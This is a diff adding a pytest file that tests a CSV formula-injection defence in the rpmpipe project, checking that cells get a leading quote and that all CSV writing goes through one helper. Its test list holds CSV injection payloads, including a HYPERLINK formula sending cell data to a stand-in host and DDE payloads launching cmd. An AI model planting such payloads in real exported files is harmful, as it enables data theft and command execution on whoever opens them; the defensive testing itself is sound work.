@@ -1,0 +1,75 @@
+"""Every CSV rpmpipe writes neutralises spreadsheet formulas (OWASP), through one helper."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from rpmpipe.csv_cells import SafeCsvWriter, csv_field, neutralise_cell, restore_cell
+
+ROOT = Path(__file__).resolve().parents[2]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_formula_cells_get_a_leading_quote(attack: str) -> None:
+    assert neutralise_cell(attack) == "'" + attack
+    assert restore_cell(neutralise_cell(attack)) == attack
+    assert csv_field(attack).lstrip('"').startswith("'")
+
+
+@pytest.mark.parametrize("value", ["-2.50", "+3", "-7", "Ada", "O'Brien", "", "'quoted"])
+def test_plain_values_and_numbers_are_left_alone(value: str) -> None:
+    assert neutralise_cell(value) == value
+    assert restore_cell(value) == value
+
+
+@given(st.text(max_size=40))
+def test_restore_undoes_neutralise_and_no_cell_starts_a_formula(value: str) -> None:
+    safe = neutralise_cell(value)
+    assert restore_cell(safe) == value
+    assert not safe[:1] or safe[0] not in "=+@\t\r" or safe.startswith("'")
+
+
+def test_safe_writer_neutralises_every_cell() -> None:
+    out = io.StringIO(newline="")
+    SafeCsvWriter(out).writerow(ATTACKS[:4])
+    cells = next(csv.reader(io.StringIO(out.getvalue())))
+    assert cells == ["'" + a for a in ATTACKS[:4]]
+
+
+def test_no_module_writes_csv_around_the_helper() -> None:
+    # One implementation: every CSV writer of rpmpipe goes through rpmpipe.csv_cells.
+    offenders = []
+    for folder in ("rpmpipe", "ingest", "metrics", "billing_export", "simulators"):
+        for path in (ROOT / folder).rglob("*.py"):
+            if path.name == "csv_cells.py" or path.is_symlink():
+                continue
+            tree = ast.parse(path.read_text(encoding="utf-8"))
+            for node in ast.walk(tree):
+                if (
+                    isinstance(node, ast.Attribute)
+                    and isinstance(node.value, ast.Name)
+                    and node.value.id == "csv"
+                    and node.attr in ("writer", "DictWriter")
+                ) or (isinstance(node, ast.Attribute) and node.attr == "to_csv"):
+                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
+    assert not offenders, offenders
+
+
+@pytest.mark.parametrize("value", ["'=1+1", "''@x", "'"])
+def test_values_that_already_start_with_a_quote_round_trip(value: str) -> None:
+    assert restore_cell(neutralise_cell(value)) == value
